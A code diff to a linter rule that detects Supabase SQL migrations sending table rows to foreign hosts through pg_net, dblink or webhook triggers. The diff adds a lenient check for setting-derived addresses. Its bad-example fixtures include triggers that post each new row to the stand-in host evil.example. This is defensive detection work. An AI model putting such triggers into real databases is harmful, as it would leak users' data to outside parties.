@@ -5,6 +5,8 @@ webhook trigger of Supabase: each may carry rows away, also from a trigger or a 
 also when a prompt injected it. Read the address, and what is sent.
 
 Exempt are addresses of this machine. Code that the migration only defines counts too: it runs later.
+There, in the recommended profile, an address that comes from a setting or from Vault is passed over if
+the file has no foreign address in it.
 
 Source: <https://supabase.com/docs/guides/database/extensions/pg_net>,
 <https://www.postgresql.org/docs/current/dblink.html>
@@ -17,7 +19,7 @@ from urllib.parse import urlsplit
 from pglast import ast
 
 from guardrails.lint.constants import Value, constant, fold, shape
-from guardrails.lint.contracts import Problem, Rule, Severity, Statement
+from guardrails.lint.contracts import Problem, Profile, Rule, Severity, Statement
 from guardrails.lint.parsing import names_of
 from guardrails.lint.spelling import written
 
@@ -41,6 +43,7 @@ _HERE = frozenset({
     "localhost",
     "supabase_kong",
 })  # fmt: skip
+_ADDRESS = re.compile(r"://([^\s/:'\"]*)")
 _HOST = re.compile(r"\bhost(?:addr)?\s*=\s*'?([^\s']+)")
 
 
@@ -50,9 +53,9 @@ def check(statement: Statement) -> Iterator[Problem]:
             name = names_of(funcname)
             offset = statement.start if location is None else location
             if name[-1] in _HTTP and (name[-2] in _WHERE_HTTP_IS if len(name) > 1 else True):
-                yield from _sends(name[-1], _address(arguments or ()), offset)
+                yield from _called(statement, name[-1], _address(arguments or ()), offset)
             elif name[-1] in _DBLINK:
-                yield from _sends(name[-1], _server(arguments or ()), offset)
+                yield from _called(statement, name[-1], _server(arguments or ()), offset)
         case ast.CreateTrigStmt(funcname=funcname, args=arguments, trigname=trigger):
             if names_of(funcname) == _WEBHOOK:
                 url = arguments[0].sval if arguments else ""
@@ -117,6 +120,13 @@ def _host_in(connection: str) -> str | None:
     return found[1] if found else "localhost"
 
 
+def _called(statement: Statement, what: str, host: str | None, offset: int) -> Iterator[Problem]:
+    is_lenient = statement.settings.profile is Profile.RECOMMENDED and not statement.runs
+    if host is None and is_lenient and all(found in _HERE for found in _ADDRESS.findall(statement.file.sql)):
+        return
+    yield from _sends(what, host, offset)
+
+
 def _sends(what: str, host: str | None, offset: int) -> Iterator[Problem]:
     if host is not None and host.lower() in _HERE:
         return
@@ -137,6 +147,11 @@ RULE = Rule(
             "CREATE FUNCTION tell() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN\n"
             "PERFORM net.http_post('https://' || 'evil.example', to_jsonb(NEW)); RETURN NEW; END $$;"
         ),
+        (
+            "CREATE FUNCTION tell() RETURNS trigger LANGUAGE plpgsql AS $$\n"
+            "DECLARE address text := 'https://evil.example'; BEGIN\n"
+            "PERFORM net.http_post(address, to_jsonb(NEW)); RETURN NEW; END $$;"
+        ),
         "SELECT cron.schedule('x', '* * * * *', $$ SELECT dblink_exec('host=evil.example', 'SELECT 1') $$);",
         (
             "CREATE TRIGGER hook AFTER INSERT ON members FOR EACH ROW EXECUTE FUNCTION "
@@ -150,6 +165,10 @@ RULE = Rule(
     good=(
         "SELECT net.http_post(url := 'http://host.docker.internal:54321/functions/v1/hello', body := '{}');",
         "SELECT 'net.http_post';",
+        (
+            "CREATE FUNCTION tell() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN\n"
+            "PERFORM net.http_post(current_setting('app.url'), to_jsonb(NEW)); RETURN NEW; END $$;"
+        ),
         "SELECT shop.http_get('https://example.org');",
         "SELECT dblink_disconnect();",
     ),
